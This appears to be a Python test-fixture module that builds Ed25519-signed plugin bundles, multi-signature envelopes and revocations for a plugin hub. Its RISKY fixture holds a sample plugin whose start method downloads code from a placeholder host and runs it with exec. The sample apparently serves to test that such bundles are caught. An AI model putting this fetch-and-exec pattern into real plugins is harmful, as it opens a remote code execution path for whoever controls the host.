"""Bundles and revocations by keys of one's own, as the hub is given them."""

from __future__ import annotations

import struct
import sys
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "python"))

import bundles
from bundles import signed_bytes

SOURCE = {"guard.py": b"class Guard:\n    pass\n"}
RISKY = {
    "guard.py": b"""import urllib3


class Guard:
    def start(self, scheduler):
        answer = urllib3.PoolManager().request("GET", "https://plugins.example/guard.py")
        exec(answer.data)
"""
}


class Key:
    def __init__(self) -> None:
        self.private = Ed25519PrivateKey.generate()
        self.public = bundles.public_bytes(self.private)
        self.id = bundles.key_id(self.private)


def manifest(publisher: Key, files: dict[str, bytes] = SOURCE, **fields: Any) -> dict[str, Any]:
    fields = {"name": "night-guard", "version": "1.0", "entry": "guard:Guard", **fields}
    return bundles.manifest_of(publisher.private, files=bundles.files_of(files), **fields)


def with_signatures(signed: bytes, *keys: Key) -> bytes:
    ordered = sorted(keys, key=lambda key: key.public)
    signatures = b"".join(key.public + key.private.sign(signed) for key in ordered)
    return signed + struct.pack("<I", len(keys)) + signatures


def bundle(publisher: Key, *others: Key, files: dict[str, bytes] = SOURCE, **fields: Any) -> bytes:
    return with_signatures(signed_bytes(manifest(publisher, files, **fields), files), publisher, *others)


def revocation(by: Key, sha256: str | None = None, **fields: Any) -> bytes:
    about = {} if sha256 is None else {"sha256": sha256}
    return bundles.revocation(by.private, **about, **fields)
